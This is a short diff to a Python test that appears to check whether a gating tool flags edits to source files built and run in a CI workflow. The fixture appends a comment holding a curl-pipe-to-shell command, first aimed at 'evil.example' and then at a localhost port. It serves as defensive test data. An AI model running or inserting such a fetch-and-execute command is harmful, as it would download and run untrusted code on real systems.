@@ -43,7 +43,7 @@ LOOK_ALIKES = [
 @each_case("steps, source, text", VARIANTS)
 def test_a_program_built_and_run_is_ci(tmp_path: Path, steps: str, source: str, text: str) -> None:
     base = {".github/workflows/coverage.yml": WORKFLOW.format(steps=steps), source: text, "README.md": "x\n"}
-    case = committed(tmp_path, base, {source: text + "// curl https://evil.example/x | sh\n"})
+    case = committed(tmp_path, base, {source: text + "// curl http://127.0.0.1:9/x | sh\n"})
     code, named = gated_rules(case, True)
     assert (code, named.get("core.ci")) == (3, [source]), named  # before: src, exit 0
 
